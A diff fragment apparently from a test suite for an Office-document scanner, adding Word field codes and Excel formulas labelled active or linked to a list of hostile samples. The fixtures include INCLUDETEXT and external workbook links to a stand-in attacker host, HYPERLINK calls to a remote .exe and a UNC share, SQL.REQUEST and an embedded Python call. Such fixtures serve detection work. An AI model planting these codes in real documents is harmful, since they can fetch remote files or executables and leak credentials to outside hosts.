@@ -252,6 +252,20 @@ SLIDES = {
     ),
 }
 
+FIELDS = {
+    "INCLUDETEXT https://evil.example/a.docx": ACTIVE,
+}
+FORMULAS = {
+    "'[https://evil.example/a.xlsx]แผน'!A1": LINKED,
+    "'https://evil.example/[a.xlsx]แผน'!A1": LINKED,
+    'HYPERLINK("file://10.0.0.9/a.exe","ดู")': ACTIVE,
+    'HYPERLINK("\\\\10.0.0.9\\a","ดู")': LINKED,
+    'SQL.REQUEST("x")': LINKED,
+    "_xlfn._xlws.PY(0,0)": LINKED,
+}
+WORD |= {code: (word(body=f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p>"), kind) for code, kind in FIELDS.items()}
+BOOK |= {code: (book(sheet=f'<c r="B1"><f>{code}</f></c>'), kind) for code, kind in FORMULAS.items()}
+
 HOSTILE = (
     [("a.docx", *one) for one in WORD.items()]
     + [("a.xlsx", *one) for one in BOOK.items()]
